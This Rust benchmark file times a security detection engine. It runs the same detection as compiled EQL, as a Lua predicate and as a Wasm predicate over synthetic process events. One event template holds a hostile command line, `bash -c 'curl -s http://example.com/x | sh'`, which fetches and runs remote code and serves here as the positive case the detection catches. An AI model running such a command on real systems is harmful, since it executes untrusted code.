//! Hand-written predicates against compiled EQL, release build (docs/benchmarks.md).
//!
//! One detection written three ways (`tests/data/custom/equivalence/`): as EQL, as a
//! Lua predicate and as a Wasm predicate. Each bundle runs the same pre-parsed events
//! through the whole engine (`Engine::run`); the report gives the time per event of
//! each, the Lua and Wasm costs over the EQL cost (same run), and the cost a call adds
//! (its time per event minus the EQL rule's). A quarter of the events are true for the
//! detection, so captures and alerts are in the measurement too.
//!
//! `cargo bench -p kestrel-rt --bench custom [-- --events N --reps R]`. Under
//! `cargo test --benches` it runs small sizes once, as a smoke test.

use eqlc::check::Options;
use eqlc::dialect::{Dialect, EndgameCase};
use eqlc::source::SourceMap;
use kestrel_bundle::schema::Schema;
use kestrel_rt::engine::{DEFAULT_MAX_BUFFERED, Engine, Event};
use kestrel_rt::program::Program;
use kestrel_rt::replay::EventReader;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

fn bundle(path: &Path) -> Vec<u8> {
    let schema = Schema::builtin("linux").expect("the linux schema is built in");
    let options = Options { schema: &schema, dialect: Dialect::Elasticsearch, endgame_case: EndgameCase::Insensitive, declarations: &[] };
    let mut sources = SourceMap::new();
    eqlc::driver::build_paths(&[path.to_path_buf()], &options, &mut sources)
        .unwrap_or_else(|diags| panic!("{} does not build:\n{}", path.display(), eqlc::render::human(&diags, &sources, false)))
}

/// `count` process events: every fourth one a `bash -c` with three arguments (true for
/// the detection), the others near misses on one condition each.
fn lines(count: usize) -> Vec<String> {
    (0..count)
        .map(|n| {
            let (name, args, line) = match n % 4 {
                0 => ("bash", 3, "bash -c 'curl -s http://example.com/x | sh'"),
                1 => ("bash", 1, "bash"),
                2 => ("python3", 3, "python3 -c 'import os'"),
                _ => ("bash", 4, "bash /usr/local/bin/backup.sh --full --verbose"),
            };
            format!(
                r#"{{"@timestamp":"2026-11-29T09:00:00.{n:09}Z","event":{{"category":["process"],"type":["start"],"action":"exec"}},"process":{{"pid":{n},"name":"{name}","args_count":{args},"command_line":"{line}","executable":"/usr/bin/{name}"}}}}"#
            )
        })
        .collect()
}

fn events(program: &Arc<Program>, lines: &[String]) -> Vec<Event> {
    let mut reader = EventReader::new(program);
    lines
        .iter()
        .map(|line| {
            let (mut event, timestamp) = reader.read_fields(line).expect("valid events");
            event.timestamp = timestamp.unwrap_or(0);
            event
        })
        .collect()
}

/// The fastest of `reps` runs of the whole engine over `events`, and its alert count.
fn run(program: &Arc<Program>, events: &[Event], reps: usize) -> (Duration, usize) {
    let mut best = Duration::MAX;
    let mut alerts_seen = 0;
    for _ in 0..reps {
        let mut engine = Engine::new(program.clone(), DEFAULT_MAX_BUFFERED).expect("the engine starts");
        let mut alerts = Vec::new();
        let started = Instant::now();
        engine.run(events, 0, &mut alerts);
        engine.finish(&mut alerts);
        best = best.min(started.elapsed());
        alerts_seen = alerts.len();
        for predicate in engine.custom_stats() {
            assert!(predicate.disabled.is_none(), "{} was disabled: {:?}", predicate.name, predicate.disabled);
        }
    }
    (best, alerts_seen)
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let smoke = !args.iter().any(|arg| arg == "--bench");
    let value = |flag: &str, default: usize| {
        args.iter().position(|arg| arg == flag).and_then(|at| args.get(at + 1)).and_then(|text| text.parse().ok()).unwrap_or(default)
    };
    let (count, reps) = if smoke { (400, 1) } else { (value("--events", 200_000), value("--reps", 7)) };
    let dir: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/data/custom/equivalence");
    let lines = lines(count);
    let mut results = Vec::new();
    for (label, path) in [("EQL (compiled)", dir.join("eql.toml")), ("Lua predicate", dir.join("lua")), ("Wasm predicate", dir.join("wasm"))] {
        let program = Arc::new(Program::load(&bundle(&path)).expect("the bundle loads"));
        let events = events(&program, &lines);
        let (time, alerts) = run(&program, &events, reps);
        assert_eq!(alerts, count.div_ceil(4), "{label}: one alert per true event");
        results.push((label, time.as_secs_f64() * 1e9 / count as f64));
    }
    let eql = results[0].1;
    println!("one detection, three ways: {count} events, best of {reps} runs, whole engine (Engine::run)");
    println!("{:<16} {:>12} {:>10} {:>16}", "", "ns/event", "× EQL", "added ns/event");
    for (label, ns) in &results {
        println!("{label:<16} {ns:>12.1} {:>10.2} {:>16.1}", ns / eql, ns - eql);
    }
    let json = serde_json::json!({
        "events": count,
        "reps": reps,
        "eql_ns_per_event": results[0].1,
        "lua_ns_per_event": results[1].1,
        "wasm_ns_per_event": results[2].1,
        "lua_over_eql": results[1].1 / eql,
        "wasm_over_eql": results[2].1 / eql,
    });
    println!("{json}");
}
